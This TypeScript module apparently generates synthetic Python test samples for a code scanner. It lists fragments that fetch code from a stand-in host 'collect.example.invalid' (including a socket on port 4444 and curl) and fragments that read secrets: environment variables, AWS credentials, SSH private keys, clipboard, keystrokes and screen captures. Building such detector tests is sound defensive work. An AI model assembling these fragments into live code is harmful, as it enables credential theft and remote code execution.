import type { Source } from './sample.js';

/** Inert: the names in it exist nowhere. */
export const PAYLOAD = 'bloom(undefined_in_every_garden)\n';

const PACKED = Buffer.from(PAYLOAD).toString('base64');
export const HOST = 'collect.example.invalid';

/** What gives code or a command that nobody has seen. */
export const codeSources: readonly Source[] = [
  { id: 'decoder', target: { module: 'base64', name: 'b64decode' }, give: (callee) => `${callee}('${PACKED}').decode()` },
  { id: 'network-urllib', target: { module: 'urllib.request', name: 'urlopen' }, give: (callee) => `${callee}('https://${HOST}/part').read().decode()` },
  { id: 'network-requests', target: { module: 'requests', name: 'get' }, give: (callee) => `${callee}('https://${HOST}/part').text` },
  { id: 'network-socket', target: { module: 'socket', name: 'create_connection' }, give: (callee) => `${callee}(('${HOST}', 4444)).recv(4096).decode()` },
  { id: 'network-curl', target: { module: 'subprocess', name: 'check_output' }, give: (callee) => `${callee}(['curl', '-s', 'https://${HOST}/part']).decode()` },
];

/** Data that ships beside the code: ordinary to read, remarkable to run. */
export const shippedSources: readonly Source[] = [
  { id: 'shipped-file', target: { module: 'builtins', name: 'open' }, lines: ['import os'], give: (callee) => `${callee}(os.path.join(os.path.dirname(__file__), 'data.bin')).read()` },
  { id: 'shipped-decoded', target: { module: 'base64', name: 'b64decode' }, lines: ['import os'], give: (callee) => `${callee}(open(os.path.join(os.path.dirname(__file__), 'data.bin')).read()).decode()` },
];

/** What nobody may send away. */
export const secretSources: readonly Source[] = [
  { id: 'environment', target: { module: 'os', name: 'environ' }, give: (callee) => `str(dict(${callee}))` },
  { id: 'credentials-open', target: { module: 'builtins', name: 'open' }, lines: ['import os'], give: (callee) => `${callee}(os.path.expanduser('~/.aws/credentials')).read()` },
  { id: 'credentials-pathlib', target: { module: 'pathlib', name: 'Path' }, give: (callee) => `(${callee}.home() / '.ssh' / 'id_rsa').read_text()` },
  { id: 'host', target: { module: 'socket', name: 'gethostname' }, lines: ['import getpass'], give: (callee) => `${callee}() + getpass.getuser()` },
  { id: 'platform', target: { module: 'platform', name: 'uname' }, lines: ['import getpass'], give: (callee) => `str(${callee}()) + getpass.getuser()` },
  { id: 'clipboard', target: { module: 'pyperclip', name: 'paste' }, give: (callee) => `${callee}()` },
  { id: 'keyboard', target: { module: 'pynput.keyboard', name: 'Events' }, give: (callee) => `str(${callee}().get(1))` },
  { id: 'screen', target: { module: 'PIL.ImageGrab', name: 'grab' }, give: (callee) => `str(${callee}().tobytes())` },
];
